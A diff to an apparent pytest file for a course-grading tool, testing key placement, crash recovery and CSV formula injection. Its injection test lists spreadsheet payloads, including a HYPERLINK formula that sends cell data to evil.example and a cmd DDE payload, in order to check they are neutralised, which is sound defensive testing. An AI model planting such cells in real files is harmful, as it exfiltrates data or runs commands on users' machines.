@@ -142,12 +142,12 @@ def test_na_like_exercise_and_trainee_ids_are_graded_by_exercises_grade(tmp_path
     write(tmp_path, "roster.csv", "trainee_id\n" + "".join(f"{tid}\n" for tid in NA_IDS))
     assert main(["exercises", "make", "--exercise", str(tmp_path / "na.yml"), "--roster",
                  str(tmp_path / "roster.csv"), "--out", str(tmp_path / "data")]) == 0
-    key = read_key(tmp_path / "data" / "answer_key.csv")
+    key = read_key(tmp_path / "data_key.csv")
     assert key["trainee_id"].tolist() == NA_IDS and set(key["exercise_id"]) == {"NA"}
     answers = tmp_path / "answers.csv"
     answers.write_text("trainee_id,answer\n" + "".join(f"{r.trainee_id},{r.answer!r}\n" for r in key.itertuples()),
                        encoding="utf-8")
-    assert main(["exercises", "grade", "--key", str(tmp_path / "data" / "answer_key.csv"), "--answers",
+    assert main(["exercises", "grade", "--key", str(tmp_path / "data_key.csv"), "--answers",
                  str(answers), "--out", str(tmp_path / "graded.csv")]) == 0
     assert f"{len(NA_IDS)} correct" in capsys.readouterr().out
     graded = pd.read_csv(tmp_path / "graded.csv", dtype=str, keep_default_na=False)
@@ -415,3 +415,204 @@ def test_as_of_grades_as_at_a_given_time_and_refuses_a_time_without_a_zone(cours
         err = capsys.readouterr().err
         assert f"--as-of: {bad}" in err.replace("'", "") and said in err and "Traceback" not in err
         assert not (tmp_path / "bad").exists()
+
+
+# 13. a signal between the hand-outs' move and the key's left hand-outs without a key (the salt lost); a SIGKILL
+# during `course add` left the key only in a hidden folder, and grade / add said "not a course key folder"
+
+# runs a kaigai command in a child that sends itself a signal at its Nth call of os.rename or os.chmod
+SIGNAL_AT = """
+import os, signal, sys
+from kaigai_lib.replication.cli import main
+call, when, signum = sys.argv[1], int(sys.argv[2]), getattr(signal, sys.argv[3])
+real, seen = getattr(os, call), 0
+def hooked(*args, **kwargs):
+    global seen
+    seen += 1
+    if seen == when:
+        os.kill(os.getpid(), signum)  # SIGKILL dies here; SIGTERM is delivered now or when signals are let through
+    return real(*args, **kwargs)
+setattr(os, call, hooked)
+sys.exit(main(sys.argv[4:]))
+"""
+
+
+def signal_at(call: str, when: int, signum: str, argv: list[str], cwd: Path) -> int:
+    import subprocess
+    import sys
+
+    return subprocess.run([sys.executable, "-c", SIGNAL_AT, call, str(when), signum, *argv], cwd=cwd,
+                          capture_output=True, text=True, check=False).returncode
+
+
+@pytest.fixture(scope="module")
+def small_course(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    root = tmp_path_factory.mktemp("signals")
+    write(root, "effect.yml", EFFECT.replace("n_firms: 300", "n_firms: 150"))
+    write(root, "week.yml", WEEK.format(late="", qid="effect"))
+    write(root, "roster.csv", "trainee_id\ns01\ns02\n")
+    write(root, "late.csv", "trainee_id\ns01\ns02\nlate1\n")
+    return root
+
+
+def handed_out(root: Path) -> set[str]:
+    """Trainees with a hand-out in any folder of the course (folders beginning with "h")."""
+    return {p.name for h in root.glob("h*") if h.is_dir() for p in h.iterdir() if p.is_dir()}
+
+
+def course_state(root: Path, capsys: pytest.CaptureFixture[str]) -> tuple[set[str], set[str]]:
+    """(trainees with a hand-out, trainees in the key) after grading, which puts back what a killed run left."""
+    (root / "answers.csv").write_text("trainee_id,answer\ns01,0.1\n", encoding="utf-8")
+    shutil.rmtree(root / "g", ignore_errors=True)
+    code = main(["course", "grade", "--key", str(root / "k"), "--answers", str(root / "answers.csv"),
+                 "--out", str(root / "g")])
+    err = capsys.readouterr().err
+    if not (root / "h").exists():  # nothing made: then there is no key either, and grade says so
+        assert code == 2 and "not a course key folder" in err
+        return set(), set()
+    assert code == 0, err
+    key = read_course_key(root / "k")[1]
+    return handed_out(root), set(key["trainee_id"])
+
+
+@pytest.mark.parametrize(("call", "when", "signum"), [
+    ("chmod", 2, "SIGTERM"),  # after the hand-outs are sealed, before any move: neither is left
+    ("rename", 2, "SIGKILL"),  # killed before the hand-outs' move: the next command removes the ready key
+    ("rename", 3, "SIGKILL"),  # killed after the hand-outs' move: the next command moves the key in
+])
+def test_course_make_leaves_hand_outs_and_key_together_or_neither(small_course, tmp_path, capsys, call, when,
+                                                                   signum, monkeypatch) -> None:
+    root = Path(shutil.copytree(small_course, tmp_path / "c"))
+    monkeypatch.chdir(root)
+    make = ["course", "make", "week.yml", "--roster", "roster.csv", "--out", "h", "--key", "k", "--engine", "serial"]
+    code = signal_at(call, when, signum, make, root)
+    assert code in (143, -9), code
+    trainees, in_key = course_state(root, capsys)
+    assert trainees == in_key and trainees in (set(), {"s01", "s02"})
+    if trainees:  # the key's salt is the hand-outs' one: a remake with --force gives the same data
+        data = (root / "h" / "s01" / "effect" / "firms.csv.gz").read_bytes()
+        assert main([*make, "--force"]) == 0
+        assert (root / "h" / "s01" / "effect" / "firms.csv.gz").read_bytes() == data
+    assert not [p.name for p in root.iterdir() if ".kaigai-" in p.name and not p.name.endswith("-lock")
+                and not p.name.startswith(".h.")]  # the key's leftovers are tidied (the hand-outs' by their next run)
+
+
+@pytest.mark.parametrize("when", [3, 4])  # the late hand-outs moved in; the old key parked
+def test_a_course_add_killed_mid_way_is_finished_or_undone_by_the_next_command(small_course, tmp_path, capsys,
+                                                                                when, monkeypatch) -> None:
+    root = Path(shutil.copytree(small_course, tmp_path / "c"))
+    monkeypatch.chdir(root)
+    assert main(["course", "make", "week.yml", "--roster", "roster.csv", "--out", "h", "--key", "k",
+                 "--engine", "serial"]) == 0
+    add = ["course", "add", "--key", "k", "--roster", "late.csv", "--out", "h_late", "--engine", "serial"]
+    assert signal_at("rename", when, "SIGKILL", add, root) == -9
+    trainees, in_key = course_state(root, capsys)
+    assert trainees == in_key == {"s01", "s02", "late1"}
+    again = main([*add[:-4], "--out", "h_late2", "--engine", "serial"])
+    assert again == 2  # added once: the key lists them
+
+
+def test_a_failed_key_move_puts_the_earlier_hand_outs_back(small_course, tmp_path, monkeypatch) -> None:
+    import os
+
+    root = Path(shutil.copytree(small_course, tmp_path / "c"))
+    made = make_course(root / "week.yml", root / "roster.csv", root / "h", root / "k", engine="serial")
+    before = {p.relative_to(root).as_posix(): p.read_bytes() for p in (root / "h").rglob("*") if p.is_file()}
+    real = os.rename
+
+    def refuse_the_key(src: object, dst: object) -> None:
+        if Path(dst) == made.key and ".kaigai-ready-" in str(src):  # the new key's move, not the old one's return
+            raise PermissionError(13, "Permission denied", str(dst))
+        real(src, dst)
+
+    monkeypatch.setattr(os, "rename", refuse_the_key)
+    with pytest.raises(PermissionError):
+        make_course(root / "week.yml", root / "roster.csv", root / "h", root / "k", engine="serial", force=True,
+                    replace_key=True)  # a new salt: new hand-outs, had they gone in
+    monkeypatch.undo()
+    assert {p.relative_to(root).as_posix(): p.read_bytes() for p in (root / "h").rglob("*") if p.is_file()} == before
+    assert not [p.name for p in root.iterdir() if ".kaigai-" in p.name and not p.name.endswith("-lock")]
+
+
+# 14. a trainee's answer or question cell like =HYPERLINK(...) went verbatim into detail.csv, the gradebook and the
+# copy check, which the instructor opens in a spreadsheet (OWASP "CSV injection")
+
+INJECTIONS = ["=1+1", '=HYPERLINK("http://evil.example/"&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+              "\t=1+1", "\r=1+1", " =1+1"]
+
+
+def formula_cells(files: list[Path]) -> list[str]:
+    """Cells of CSV files a spreadsheet would run as a formula (a plain number is not one)."""
+    import csv
+    import re
+
+    found = []
+    for path in files:
+        with open(path, encoding="utf-8", newline="") as handle:
+            for row in csv.reader(handle):
+                found += [f"{path.name}: {cell!r}" for cell in row if cell.lstrip(" ").startswith(
+                    ("=", "+", "-", "@", "\t", "\r")) and not re.fullmatch(r"[+-]?\d+(\.\d*)?([eE][+-]?\d+)?", cell)]
+    return found
+
+
+def test_trainee_text_is_never_written_as_a_spreadsheet_formula(course, tmp_path, capsys) -> None:
+    truth = truths(course["key"])[("s01", "effect")]
+    negative = f"{-truth!r}"  # a negative number stays a number: wrong (the sign), and readable as one
+    rows = [f'{tid},effect,"{text.replace(chr(34), chr(34) * 2)}",' for tid, text in
+            zip(["s01", "s02"] * 4, INJECTIONS, strict=True)]
+    rows += ['"=HYPERLINK(""x"")",effect,0.1,', 's01,"@cmd",0.1,', f"s01,effect,{negative},", f"s02,effect,{truth!r},"]
+    code, detail, _ = grade(course["key"], rows, tmp_path / "g", capsys)
+    assert code == 0
+    assert formula_cells(sorted((tmp_path / "g").glob("*.csv"))) == []
+    # answers are read trimmed (a leading tab or space goes); what is left of each gets the apostrophe
+    assert detail["answer"].tolist()[:len(INJECTIONS)] == [f"'{text.strip()}" for text in INJECTIONS]
+    assert negative in detail["answer"].tolist()  # as written, no apostrophe
+    assert pd.read_csv(tmp_path / "g" / "detail.csv")["truth"].dtype == float
+    assert (tmp_path / "g" / "copy_check.csv").read_text(encoding="utf-8").count(repr(truth)) == 1  # s02 copied s01
+
+
+def test_exercises_grade_writes_no_spreadsheet_formula(tmp_path, capsys) -> None:
+    write(tmp_path, "effect.yml", EFFECT.replace("n_firms: 300", "n_firms: 150"))
+    write(tmp_path, "roster.csv", "trainee_id\ns01\ns02\n")
+    assert main(["exercises", "make", "--exercise", str(tmp_path / "effect.yml"), "--roster",
+                 str(tmp_path / "roster.csv"), "--out", str(tmp_path / "class"), "--key",
+                 str(tmp_path / "key.csv")]) == 0
+    answers = "trainee_id,answer\n" + "".join(f'{t},"{a.replace(chr(34), chr(34) * 2)}"\n' for t, a in
+                                              zip(["s01", "s02", "=x", "-1+1"], INJECTIONS, strict=False))
+    (tmp_path / "answers.csv").write_text(answers, encoding="utf-8")
+    assert main(["exercises", "grade", "--key", str(tmp_path / "key.csv"), "--answers", str(tmp_path / "answers.csv"),
+                 "--out", str(tmp_path / "graded.csv")]) == 0
+    capsys.readouterr()
+    assert formula_cells([tmp_path / "graded.csv"]) == []
+    graded = pd.read_csv(tmp_path / "graded.csv", dtype=str, keep_default_na=False)
+    assert graded["answer"].tolist()[:4] == [f"'{text}" for text in INJECTIONS[:4]]
+
+
+# 15. exercises make wrote the key into the class folder by default (class/answer_key.csv): handing out the class
+# folder, or a zip of it, handed out the key
+
+
+def test_exercises_make_keeps_the_key_out_of_the_class_folder(tmp_path, capsys) -> None:
+    write(tmp_path, "effect.yml", EFFECT.replace("n_firms: 300", "n_firms: 150"))
+    write(tmp_path, "roster.csv", "trainee_id\ns01\ns02\n")
+    make = ["exercises", "make", "--exercise", str(tmp_path / "effect.yml"), "--roster", str(tmp_path / "roster.csv")]
+    for key in ("class/answer_key.csv", "class/s01/key.csv", "class/../class/k.csv"):
+        assert main([*make, "--out", str(tmp_path / "class"), "--key", str(tmp_path / key)]) == 2
+        assert "is inside --out" in capsys.readouterr().err and not (tmp_path / "class").exists()
+    assert main([*make, "--out", str(tmp_path / "class")]) == 0
+    assert f"Answer key: {tmp_path / 'class_key.csv'}" in capsys.readouterr().out
+    assert sorted(p.name for p in (tmp_path / "class").iterdir() if not p.name.startswith(".")) == ["s01", "s02"]
+    assert not [p for p in (tmp_path / "class").rglob("*") if "key" in p.name]
+    from kaigai_lib.exercises.spec import read_key
+
+    assert read_key(tmp_path / "class_key.csv")["trainee_id"].tolist() == ["s01", "s02"]
+    assert main([*make, "--out", str(tmp_path / "class")]) == 2  # both exist: --force replaces both
+    assert main([*make, "--out", str(tmp_path / "class"), "--force"]) == 0
+
+
+def test_a_result_parked_by_a_killed_run_is_named_by_check_disclosure(tmp_path, capsys) -> None:
+    parked = tmp_path / ".results.kaigai-old-x1y2" / "previous"
+    parked.mkdir(parents=True)  # what `replicate --force` leaves when killed between its two moves
+    assert main(["check-disclosure", str(tmp_path / "results")]) == 2
+    err = capsys.readouterr().err
+    assert "nothing was checked" in err and f"mv '{parked}' '{tmp_path / 'results'}'" in err
